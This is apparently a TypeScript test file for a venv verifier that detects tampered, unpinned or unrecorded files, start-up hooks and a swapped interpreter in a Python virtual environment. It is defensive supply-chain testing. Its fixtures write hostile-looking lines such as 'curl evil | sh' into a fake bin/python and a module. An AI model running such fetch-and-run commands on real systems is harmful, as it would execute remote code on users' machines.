import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { lockedPins } from '../../src/install/pip-lock.js';
import { verifyVenv } from '../../src/install/venv-verify.js';
import { FAKE_PYTHON, fakePipInstall } from './fake-pip.js';

const LOCK = `tiny-tool==1.0 \\\n    --hash=sha256:${'1'.repeat(64)}\n`;

function venv(): { dir: string; site: string } {
  const dir = mkdtempSync(path.join(tmpdir(), 'venv-verify-'));
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
  fakePipInstall(dir, 'tiny_tool-1.0', 'tiny');
  return { dir, site: path.join(dir, 'lib', `python${FAKE_PYTHON.version}`, 'site-packages') };
}

describe('verifyVenv', () => {
  it('accepts a venv that holds exactly the locked packages with intact files', () => {
    expect(verifyVenv(venv().dir, LOCK, FAKE_PYTHON)).toBeUndefined();
  });

  it('names a package the lock does not pin, or pins at another version', () => {
    const { dir, site } = venv();
    mkdirSync(path.join(site, 'evil-0.1.dist-info'));
    writeFileSync(path.join(site, 'evil-0.1.dist-info', 'RECORD'), '');
    expect(verifyVenv(dir, LOCK, FAKE_PYTHON)).toBe('evil 0.1 is installed but the lock pins nothing');
    expect(verifyVenv(venv().dir, LOCK.replace('==1.0', '==2.0'), FAKE_PYTHON)).toBe(
      'tiny_tool 1.0 is installed but the lock pins 2.0',
    );
  });

  it('names a changed or missing file and a .pth start-up hook no package accounts for', () => {
    const a = venv();
    writeFileSync(path.join(a.site, 'tiny_tool.py'), 'import os; os.system("curl evil")\n');
    expect(verifyVenv(a.dir, LOCK, FAKE_PYTHON)).toBe(
      'tiny_tool.py differs from the hash in tiny_tool-1.0.dist-info/RECORD',
    );
    const b = venv();
    rmSync(path.join(b.dir, 'bin', 'tiny'));
    expect(verifyVenv(b.dir, LOCK, FAKE_PYTHON)).toBe(
      '../../../bin/tiny (listed in tiny_tool-1.0.dist-info/RECORD) is missing',
    );
    const c = venv();
    writeFileSync(path.join(c.site, 'zz-hook.pth'), 'import os\n');
    expect(verifyVenv(c.dir, LOCK, FAKE_PYTHON)).toBe('zz-hook.pth is not part of any installed package');
  });

  it('names any other start-up code no package accounts for (sitecustomize.py, an unrecorded package folder)', () => {
    const a = venv();
    writeFileSync(path.join(a.site, 'sitecustomize.py'), 'import os\n');
    expect(verifyVenv(a.dir, LOCK, FAKE_PYTHON)).toBe('sitecustomize.py is not part of any installed package');
    const b = venv();
    mkdirSync(path.join(b.site, 'evil_pkg'));
    writeFileSync(path.join(b.site, 'evil_pkg', '__init__.py'), 'import os\n');
    expect(verifyVenv(b.dir, LOCK, FAKE_PYTHON)).toBe('evil_pkg is not part of any installed package');
  });

  it('names a file deeper in site-packages no RECORD lists (an extension module Python prefers to the verified .py)', () => {
    const a = venv();
    mkdirSync(path.join(a.site, 'tiny_tool-1.0.dist-info', 'extra'), { recursive: true });
    writeFileSync(
      path.join(a.site, 'tiny_tool-1.0.dist-info', 'extra', 'tiny_tool.cpython-312-x86_64-linux-gnu.so'),
      'ELF',
    );
    expect(verifyVenv(a.dir, LOCK, FAKE_PYTHON)).toBe(
      'tiny_tool-1.0.dist-info/extra/tiny_tool.cpython-312-x86_64-linux-gnu.so is not part of any installed package',
    );
  });

  it('refuses a second lib/python* folder: the one verified must be the one Python loads', () => {
    const a = venv();
    mkdirSync(path.join(a.dir, 'lib', 'python2.7', 'site-packages'), { recursive: true });
    expect(verifyVenv(a.dir, LOCK, FAKE_PYTHON)).toBe(
      'lib/python2.7 is not the folder Python 3.12 loads (lib/python3.12)',
    );
    expect(verifyVenv(venv().dir, LOCK, { ...FAKE_PYTHON, version: '3.11' })).toBe(
      'lib/python3.12 is not the folder Python 3.11 loads (lib/python3.11)',
    );
  });

  it('refuses a bin/python that is not the interpreter on PATH, and a pyvenv.cfg pointing elsewhere', () => {
    const a = venv();
    rmSync(path.join(a.dir, 'bin', 'python'));
    writeFileSync(path.join(a.dir, 'bin', 'python'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
    expect(verifyVenv(a.dir, LOCK, FAKE_PYTHON)).toBe('bin/python is not a link to /usr/bin/python3');
    const b = venv();
    writeFileSync(path.join(b.dir, 'pyvenv.cfg'), 'home = /tmp/evil-python\n');
    expect(verifyVenv(b.dir, LOCK, FAKE_PYTHON)).toBe('pyvenv.cfg points Python at /tmp/evil-python, not /usr/bin');
    const c = venv();
    rmSync(path.join(c.dir, 'bin', 'python'));
    expect(verifyVenv(c.dir, LOCK, FAKE_PYTHON)).toBe('bin/python is missing');
  });

  it('reads every pin of a universal lock, including one package pinned twice under different markers', () => {
    const lock =
      "numpy==2.2.6 ; python_full_version < '3.11' \\\n    --hash=sha256:aa\nnumpy==2.3.5 ; python_full_version >= '3.11' \\\n    --hash=sha256:bb\nJinja2==3.1.6 \\\n";
    expect(lockedPins(lock)).toEqual(
      new Map([
        ['numpy', new Set(['2.2.6', '2.3.5'])],
        ['jinja2', new Set(['3.1.6'])],
      ]),
    );
  });
});
